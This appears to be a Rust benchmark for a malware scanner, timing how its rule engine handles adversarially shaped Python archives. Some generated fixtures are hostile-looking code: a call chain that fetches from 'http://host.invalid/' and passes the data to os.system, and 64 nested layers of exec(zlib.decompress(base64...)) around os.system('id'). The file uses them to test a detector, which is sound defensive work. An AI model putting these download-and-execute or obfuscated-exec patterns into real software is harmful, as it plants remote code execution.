//! Archives that are hard by their shape, whole and half as large: time must be linear in what was sent, and bounded.
//!
//! `cargo bench -p analysis -p gatehouse --bench shapes`. Times are those this thread computed, the fastest of three; memory
//! is the most that was resident, rules and archive included.
#![allow(clippy::disallowed_methods, clippy::disallowed_types, reason = "a bench is not the room")]
#![allow(clippy::print_stdout, reason = "what a bench is for")]

use std::{collections::BTreeMap, fmt::Write as _, io::Write as _, path::Path, time::Duration};

use analysis::{
    Rulebook, inspect,
    rulebook::pack::{self, Packed},
};
use base64::{Engine as _, engine::general_purpose::STANDARD};
use flate2::{Compression, write::ZlibEncoder};
use model::{Artifact, Context};

type Files = BTreeMap<String, Vec<u8>>;

fn read(root: &Path, folder: &Path, files: &mut Files) {
    for entry in std::fs::read_dir(folder).expect("a folder of the repository").flatten() {
        let path = entry.path();
        if path.is_dir() {
            read(root, &path, files);
        } else if let (Ok(name), Ok(bytes)) = (path.strip_prefix(root), std::fs::read(&path)) {
            files.insert(name.to_string_lossy().into_owned(), bytes);
        }
    }
}

fn below(folder: &str) -> Files {
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("../..").join(folder);
    let mut files = Files::new();
    read(&root, &root, &mut files);
    files
}

/// The small honest project with one module more.
fn module(text: String) -> Packed {
    let mut files = pack::surroundings();
    files.insert("demo/work.py".to_owned(), text.into_bytes());
    pack::tree(&files)
}

/// Statements of an obfuscator on one line.
fn line_of_code(bytes: usize) -> Packed {
    let mut text = "import base64;a0=''".to_owned();
    for at in 0.. {
        if text.len() >= bytes {
            break;
        }
        let _ = write!(text, ";a{}=chr({})+a{at}[:4]", at + 1, 97 + at % 26);
    }
    module(text + "\n")
}

/// A constant on one line.
fn line_of_text(bytes: usize) -> Packed {
    let mut state = 1_u64;
    let mut text = String::with_capacity(bytes + 64);
    text.push_str("import base64\nDATA = base64.b64decode('");
    while text.len() < bytes {
        state = state.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1);
        text.push_str(&STANDARD.encode(&state.to_be_bytes()[..6]));
    }
    module(text + "')\n")
}

fn tiny_files(count: usize) -> Packed {
    let mut files = pack::surroundings();
    for at in 0..count.saturating_sub(files.len()) {
        files.insert(format!("demo/part{:03}/m{at}.py", at % 500), format!("import os\nx = {at}\n").into_bytes());
    }
    pack::tree(&files)
}

/// Functions that hand a value on, down to a shell.
fn calls(count: usize) -> Packed {
    let mut text = "import os\nimport urllib.request\n\n\n".to_owned();
    for at in 0..count {
        let _ = write!(
            text,
            "def f{at}(value):\n    other = f{}(value)\n    return f{}(other)\n\n\n",
            at + 1,
            (at + 7) % count
        );
    }
    let _ = write!(
        text,
        "def f{count}(value):\n    os.system(value)\n    return value\n\n\nf0(urllib.request.urlopen('http://host.invalid/').read())\n"
    );
    module(text)
}

/// Code in code in code, each packed and written as text.
fn layers(count: usize) -> Packed {
    let mut text = "import os\nos.system('id')\n".to_owned();
    for _ in 0..count {
        let mut packed = ZlibEncoder::new(Vec::new(), Compression::default());
        let packed = packed.write_all(text.as_bytes()).and_then(|()| packed.finish()).expect("memory");
        text = format!("import base64, zlib\nexec(zlib.decompress(base64.b64decode('{}')))\n", STANDARD.encode(packed));
    }
    module(text)
}

fn processor() -> Duration {
    let text = std::fs::read_to_string("/proc/thread-self/schedstat").unwrap_or_default();
    Duration::from_nanos(text.split(' ').next().and_then(|word| word.parse().ok()).unwrap_or_default())
}

/// MiB of this process, the most since it was last forgotten.
fn peak() -> f64 {
    let status = std::fs::read_to_string("/proc/self/status").unwrap_or_default();
    let line = status.lines().find_map(|line| line.strip_prefix("VmHWM:"));
    line.and_then(|line| line.trim().split(' ').next()?.parse::<f64>().ok()).unwrap_or_default() / 1024.0
}

/// Seconds of the fastest of a few runs, the most memory of them, and whether everything was read.
fn cost(book: &Rulebook, packed: Packed) -> (f64, f64, bool, usize) {
    let size = packed.bytes.len();
    let (artifact, context) = (Artifact::new(packed.bytes), Context::named(packed.filename));
    let (mut least, mut most, mut complete) = (f64::MAX, 0.0_f64, true);
    for _ in 0..3 {
        let _ = std::fs::write("/proc/self/clear_refs", "5");
        let before = processor();
        complete &= inspect(&artifact, &context, book).verdict.coverage.complete;
        least = least.min((processor() - before).as_secs_f64());
        most = most.max(peak());
    }
    (least, most, complete, size)
}

fn run() {
    let files = below("rules");
    let book = Rulebook::compile(&files).unwrap_or_else(|_| panic!("the rules of this repository have no mistake"));
    println!("{:28}{:>12}{:>12}{:>8}{:>12}{:>12}", "shape", "half", "whole", "ratio", "memory", "packed");
    let shapes: [(&str, fn(usize) -> Packed, usize); 6] = [
        ("8 MB of code on one line", line_of_code, 8_000_000),
        ("10 MB of code on one line", line_of_code, 10_000_000),
        ("10 MB of text on one line", line_of_text, 10_000_000),
        ("50,000 tiny files", tiny_files, 50_000),
        ("5,000 functions that call", calls, 5_000),
        ("64 layers", layers, 64),
    ];
    let mut worst = 0.0_f64;
    for (name, build, size) in shapes {
        let (half, ..) = cost(&book, build(size / 2));
        let (whole, memory, complete, packed) = cost(&book, build(size));
        worst = worst.max(whole);
        let note = if complete { "" } else { "  not read whole, and said so" };
        println!(
            "{name:28}{:>10.0} ms{:>10.0} ms{:>8.2}{memory:>8.0} MiB{:>9} kB{note}",
            half * 1e3,
            whole * 1e3,
            whole / half,
            packed / 1000
        );
    }
    println!("worst of these: {worst:.2} s");
    small(&book);
}

/// What a core does with archives of the size that malware has: the projects of the corpus.
fn small(book: &Rulebook) {
    let mut projects: BTreeMap<String, Files> = BTreeMap::new();
    for (path, bytes) in below("corpus/malicious") {
        if let Some((project, inside)) = path.split_once('/') {
            projects.entry(project.to_owned()).or_default().insert(inside.to_owned(), bytes);
        }
    }
    let archives: Vec<(Artifact, Context)> = projects
        .values()
        .map(|files| {
            let packed = pack::tree(files);
            (Artifact::new(packed.bytes), Context::named(packed.filename))
        })
        .collect();
    let mut fastest = f64::MAX;
    for _ in 0..5 {
        let before = processor();
        for (artifact, context) in &archives {
            std::hint::black_box(inspect(artifact, context, book));
        }
        fastest = fastest.min((processor() - before).as_secs_f64());
    }
    println!("{} projects of the corpus: {:.0} archives a second", archives.len(), archives.len() as f64 / fastest);
}

fn main() {
    // Syntax trees are walked recursively; see `analysis::examine`.
    let thread = std::thread::Builder::new().stack_size(64 << 20).spawn(run);
    thread.expect("a thread").join().expect("the bench");
}
